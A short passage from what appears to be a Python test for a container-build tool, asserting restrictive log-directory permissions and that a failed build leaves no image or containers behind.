    assert stat.S_IMODE(log.parent.stat().st_mode) == 0o700
    assert client.images.list(name="mlwb-test/corrupt") == []
    assert client.containers.list(all=True) == []  # forcerm: no container of the failed step
